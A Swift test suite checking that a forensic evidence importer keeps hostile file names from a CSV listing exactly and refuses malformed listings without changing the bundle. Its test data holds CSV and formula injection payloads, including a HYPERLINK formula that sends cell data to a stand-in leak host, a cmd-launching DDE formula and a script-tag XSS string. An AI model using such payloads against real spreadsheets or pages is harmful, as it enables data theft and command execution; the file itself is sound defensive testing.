import Foundation
import Testing
@testable import ReadinessKit

/// Hostile forensic listings through `readiness import evidence`: file names chosen by a suspect
/// (formulas, quotes, markup, line breaks) are kept exactly, and a broken listing leaves the
/// bundle unchanged.
@Suite("Hostile forensic CSV imports") struct EvidenceImportHostileTests {
    static let hostilePaths = [
        "=HYPERLINK(\"http://leak.example.invalid/?\"&A1,\"click\")", "+1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
        "/data/\"><script>alert(1)</script>.jpg", "/data/line\nbreak.jpg", "/data/{{case.id}} {item.id}.jpg",
        " leading and trailing spaces ", "/data/- &a *b !!tag: {x: y} # c.jpg",
    ]

    func bundle() throws -> String {
        let folder = try Hostile.temporaryFolder("import") + "/bundle"
        try Hostile.write(Hostile.caseHeader, to: folder + "/case.yaml")
        return folder
    }

    func listing(_ rows: [[String]]) throws -> String {
        let path = try Hostile.temporaryFolder("listing") + "/hashes.csv"
        let text = rows.map { row in
            row.map { "\"" + $0.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }.joined(separator: ",")
        }.joined(separator: "\r\n") + "\r\n"
        try Hostile.write(text, to: path)
        return path
    }

    @Test("file names that are formulas, markup, YAML or template syntax are imported and read back exactly")
    func hostileFileNamesRoundTrip() throws {
        let folder = try bundle()
        var rows = [["path", "sha256", "md5", "size"]]
        for (index, path) in Self.hostilePaths.enumerated() {
            rows.append([path, String(repeating: String(index), count: 64), "", String(index + 1)])
        }
        let mapping = try EvidencePresets.mapping(named: "hashlist")
        let report = try EvidenceImporter().importListing(try listing(rows), into: folder, mapping: mapping, set: ["location": "allocated"])
        #expect(report.added["evidence"] == Self.hostilePaths.count)
        let loaded = try #require(Hostile.load(folder))
        let items = try #require(loaded.bundle, "\(loaded.problems)").records(in: "evidence")
        // Cells are trimmed of surrounding spaces (as every preset does); nothing else changes.
        let expected = Self.hostilePaths.map { $0.trimmingCharacters(in: .whitespaces) }
        #expect(Set(items.compactMap { $0["path"]?.stringValue }) == Set(expected))
    }

    @Test("a listing with an unbalanced quote is refused at its record and leaves the bundle unchanged")
    func brokenListingChangesNothing() throws {
        let folder = try bundle()
        let path = try Hostile.temporaryFolder("listing") + "/hashes.csv"
        try Hostile.write("path,sha256,md5,size\n/a.jpg,\(String(repeating: "a", count: 64)),,1\n\"/b.jpg,x,,2\n", to: path)
        let before = Hostile.listing(folder)
        let mapping = try EvidencePresets.mapping(named: "hashlist")
        do throws(DiagnosticError) {
            _ = try EvidenceImporter().importListing(path, into: folder, mapping: mapping, set: ["location": "allocated"])
            Issue.record("the listing should be refused")
        } catch {
            #expect(error.diagnostics.contains { $0.severity == .error && $0.location?.line == 3 })
        }
        #expect(Hostile.listing(folder) == before)
    }
}
